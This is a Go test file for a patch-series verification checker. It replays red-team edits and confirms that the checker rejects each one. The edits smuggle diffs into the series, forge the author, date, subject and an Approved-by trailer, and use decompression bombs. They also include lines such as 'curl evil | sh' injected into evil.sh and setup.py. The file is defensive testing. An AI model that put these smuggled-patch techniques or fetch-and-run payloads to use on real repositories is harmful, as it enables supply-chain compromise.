package repocheck

import (
	"bytes"
	"encoding/json"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/git-bernstein/git-bernstein/gitext"
	"github.com/git-bernstein/git-bernstein/gitext/patch"
	"github.com/git-bernstein/git-bernstein/gitext/patch/apply"
	"github.com/git-bernstein/git-bernstein/internal/gittest"
	"github.com/git-bernstein/git-bernstein/internal/hostilepatch"
	"github.com/git-bernstein/git-bernstein/internal/verify"
)

// fixture is a repository with three commits (a root, an edit of text and binary files, a rename), their
// commits.json and our series for them.
type fixture struct {
	r       *gittest.Repo
	repo    *gitext.Repo
	commits []string
	json    []byte
	series  string
}

const setupPy = "from setuptools import setup\n\nsetup(\n    name=\"app\",\n    version=\"1.0\",\n    packages=[\"app\"],\n)\n# end\n"

func newFixture(t *testing.T) *fixture {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	r := gittest.New(t)
	rnd := rand.New(rand.NewSource(25))
	bin := make([]byte, 4000)
	rnd.Read(bin)
	bin[7] = 0
	f := &fixture{r: r}
	f.commits = append(f.commits, r.Commit("Start the app\n\nRefs: ENG-7", map[string]string{"README": "app\n", "setup.py": setupPy, "data.bin": string(bin)}))
	copy(bin[2000:], "a change in the middle of the data")
	f.commits = append(f.commits, r.Commit("Bump the version\n\nRefs: ENG-7", map[string]string{"README": "app\nversion 2\n",
		"setup.py": strings.Replace(setupPy, "1.0", "1.1", 1), "data.bin": string(bin)}))
	r.Git("mv", "setup.py", "setup2.py")
	f.commits = append(f.commits, r.Commit("Rename the setup\n\nRefs: ENG-7", nil))
	repo, err := gitext.Discover(r.Dir, r.Getenv)
	if err != nil {
		t.Fatal(err)
	}
	f.repo = repo
	hashes := make([]gitext.Hash, len(f.commits))
	for i, c := range f.commits {
		hashes[i] = gitext.NewHash(c)
	}
	var buf bytes.Buffer
	if err := patch.WriteSeries(&buf, repo, hashes); err != nil {
		t.Fatal(err)
	}
	f.series = buf.String()
	f.json, _ = json.Marshal(map[string]any{"tracker": "jira", "ticket_id": "ENG-7", "commits": f.commits, "details": []any{}})
	return f
}

// part2 is where the second part (the edit) starts in the series, and where it ends.
func (f *fixture) part2() (int, int) {
	start := strings.Index(f.series, "From "+f.commits[1])
	end := strings.Index(f.series, "From "+f.commits[2])
	return start, end
}

func (f *fixture) check(series string) verify.RepoResult {
	return Check(f.repo, verify.RepoMembers{Commits: f.json, Patch: []byte(series)})
}

func verdict(res verify.RepoResult) string {
	switch {
	case len(res.Mismatches) > 0:
		return "FAIL: " + strings.Join(res.Mismatches, "\n  ")
	case res.Err != nil:
		return "ERROR: " + res.Err.Error()
	case len(res.Unverifiable)+len(res.Missing) > 0:
		return "UNVERIFIABLE: " + strings.Join(append(res.Unverifiable, res.Missing...), "\n  ")
	}
	return "PASS"
}

// hostileCase is one edit of the red team's (issue 25, items 2, 3, 4 and 10) applied to our series.
type hostileCase struct {
	name string
	edit func(f *fixture) string
	want string // a piece of the first mismatch (or of the unverifiable reason)
	// gitApplies: git apply takes the edited part on the parent, so only our check stands in the way.
	gitApplies bool
}

// insertBefore puts text before the first occurrence of at in part 2.
func insertBefore(f *fixture, at, text string) string {
	start, end := f.part2()
	k := strings.Index(f.series[start:end], at)
	if k < 0 {
		panic("no " + at)
	}
	return f.series[:start+k] + text + f.series[start+k:]
}

// replaceIn replaces old with new in part 2.
func replaceIn(f *fixture, old, new string) string {
	start, end := f.part2()
	p := f.series[start:end]
	if !strings.Contains(p, old) {
		panic("no " + old)
	}
	return f.series[:start] + strings.Replace(p, old, new, 1) + f.series[end:]
}

// replaceHunk replaces the forward hunk of data.bin's binary patch in part 2.
func replaceHunk(f *fixture, hunk string) string {
	start, end := f.part2()
	p, ok := hostilepatch.ReplaceHunk(f.series[start:end], "data.bin", hunk)
	if !ok {
		panic("no binary hunk for data.bin")
	}
	return f.series[:start] + p + f.series[end:]
}

const traditional = "--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n app\n-version 2\n+pwned\n"

var hostileCases = []hostileCase{
	{"item 2: a traditional diff after the last section", func(f *fixture) string {
		return insertBefore(f, "-- \n", traditional)
	}, "a traditional diff", true},
	{"item 2: a traditional diff after the signature", func(f *fixture) string {
		_, end := f.part2()
		return f.series[:end] + traditional + f.series[end:]
	}, "a traditional diff", true},
	{"item 2: a traditional diff in the diffstat", func(f *fixture) string {
		return insertBefore(f, " 3 files changed", "--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n")
	}, "a traditional diff", true},
	{"item 2: a traditional diff between sections", func(f *fixture) string {
		return insertBefore(f, "diff --git a/setup.py", traditional)
	}, "a traditional diff", true},
	{"item 3: two sections for one file", func(f *fixture) string {
		return insertBefore(f, "diff --git a/setup.py", "diff --git a/setup.py b/setup.py\n--- a/setup.py\n+++ b/setup.py\n"+
			"@@ -7,2 +7,3 @@ setup(\n )\n # end\n+import os; os.system('curl evil | sh')\n")
	}, "a second section for it", true},
	{"item 4: a forged author", func(f *fixture) string {
		return replaceIn(f, "From: Ada Author <ada@example.com>", "From: Eve Evil <eve@example.com>")
	}, `: the part has "From: Eve Evil <eve@example.com>" where format-patch writes "From: Ada Author <ada@example.com>"`, true},
	{"item 4: a forged date", func(f *fixture) string {
		return replaceIn(f, "Date: Thu, 1 Jan 2026", "Date: Fri, 2 Jan 2026")
	}, "the mail header and message", true},
	{"item 4: a forged subject", func(f *fixture) string {
		return replaceIn(f, "Bump the version", "Bump the version (reviewed)")
	}, "the mail header and message", true},
	{"item 4: an Approved-by trailer", func(f *fixture) string {
		return replaceIn(f, "Refs: ENG-7\n", "Refs: ENG-7\nApproved-by: CISO <ciso@example.com>\n")
	}, `"Approved-by: CISO <ciso@example.com>" where format-patch writes "---"`, true},
	{"item 10: a delta stating a 16 GiB target", func(f *fixture) string {
		return replaceHunk(f, hostilepatch.Hunk("delta", 12, hostilepatch.Deflate(hostilepatch.Delta(4000, 16<<30, 4, 'b', 'o', 'o', 'm'))))
	}, "binary delta makes a 17179869184-byte file, more than the 4000 bytes of the commit's file", false},
	{"item 10: a literal of 2^40 zlib zeros", func(f *fixture) string {
		return replaceHunk(f, hostilepatch.Hunk("literal", 1<<40, hostilepatch.DeflatedZeros(32<<20)))
	}, "the literal says the new file has 1099511627776 bytes, the commit's has 4000", false},
	{"item 10: 96 MiB of newlines", func(f *fixture) string {
		return insertBefore(f, "diff --git a/README", strings.Repeat("\n", 96<<20))
	}, "git/diff.patch, part 2", true},
}

// TestHostileParts: each part the red team built is FAILED, naming the part and the line at fault, though git
// apply takes it (where it does); and the series unedited passes, exactly.
func TestHostileParts(t *testing.T) {
	f := newFixture(t)
	if res := f.check(f.series); verdict(res) != "PASS" || len(res.Inexact) > 0 || res.Parts != 3 {
		t.Fatalf("our own series: %s, %d parts, inexact %v", verdict(res), res.Parts, res.Inexact)
	}
	for _, c := range hostileCases {
		t.Run(c.name, func(t *testing.T) {
			if testing.Short() && c.name == "item 10: 96 MiB of newlines" {
				t.Skip("96 MiB through the checker (a second of CPU): make test runs it, go test -short skips it")
			}
			edited := c.edit(f)
			if edited == f.series {
				t.Fatal("the edit changed nothing")
			}
			res := f.check(edited)
			v := verdict(res)
			if !strings.HasPrefix(v, "FAIL: ") || !strings.Contains(v, c.want) {
				t.Fatalf("got %.2000s\nwant FAIL with %q", v, c.want)
			}
			t.Logf("%.300s", v)
			if c.gitApplies {
				start, _ := f.part2()
				end := strings.Index(edited, "From "+f.commits[2])
				if _, ok := gitApply(t, f.r, f.commits[1], edited[start:end]); !ok {
					t.Errorf("git apply does not take the edited part: the case does not show what it means to")
				}
			}
		})
	}
}

// TestOverBudgetIsUnverifiable: a part whose file is larger than the budget is not applied, and the check is
// UNVERIFIABLE with the reason.
func TestOverBudgetIsUnverifiable(t *testing.T) {
	f := newFixture(t)
	defer func(old int64) { apply.MaxFileSize = old }(apply.MaxFileSize)
	apply.MaxFileSize = 1000
	v := verdict(f.check(f.series))
	if !strings.HasPrefix(v, "UNVERIFIABLE: ") || !strings.Contains(v, "git/diff.patch, part 1 (line 1, for "+f.commits[0][:12]+"): line 27: a binary hunk of 4000 bytes, more than the 1000 the check inflates (over the check's budget)") {
		t.Fatalf("got %s", v)
	}
}

// TestOtherSettingsAreInexact: git format-patch's own series passes exactly, under any diff.renames (the
// rename commit is a deletion and a creation under false); made with a diff driver this repository lacks (its
// hunk headers name other functions), it differs from what this repository writes, passes as applied, and the
// check says which part.
func TestOtherSettingsAreInexact(t *testing.T) {
	f := newFixture(t)
	attrs := filepath.Join(t.TempDir(), "attributes")
	if err := os.WriteFile(attrs, []byte("*.py diff=python\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		config  string
		inexact int
	}{{"diff.renames=true", 0}, {"diff.renames=false", 0}, {"diff.renames=copies", 0}, {"core.attributesFile=" + attrs, 1}} {
		series := f.r.Git("-c", c.config, "format-patch", "--full-index", "--binary", "--stdout", "--root", "HEAD") + "\n"
		res := f.check(series)
		if verdict(res) != "PASS" || len(res.Inexact) != c.inexact {
			t.Errorf("git format-patch -c %s: %s, inexact %v", c.config, verdict(res), res.Inexact)
		}
	}
}

// gitApply runs `git apply --cached` of part on the commit's parent in an index of its own and returns the tree
// it makes.
func gitApply(t *testing.T, r *gittest.Repo, commit, part string) (string, bool) {
	t.Helper()
	index := t.TempDir() + "/index"
	env := append(append([]string{}, r.Env...), "GIT_INDEX_FILE="+index)
	run := func(stdin string, args ...string) (string, error) {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env, cmd.Stdin = r.Dir, env, strings.NewReader(stdin)
		out, err := cmd.Output()
		return strings.TrimSpace(string(out)), err
	}
	if _, err := run("", "read-tree", commit+"^"); err != nil {
		t.Fatal(err)
	}
	if _, err := run(part, "apply", "--cached"); err != nil {
		return "", false
	}
	tree, err := run("", "write-tree")
	if err != nil {
		t.Fatal(err)
	}
	return tree, true
}
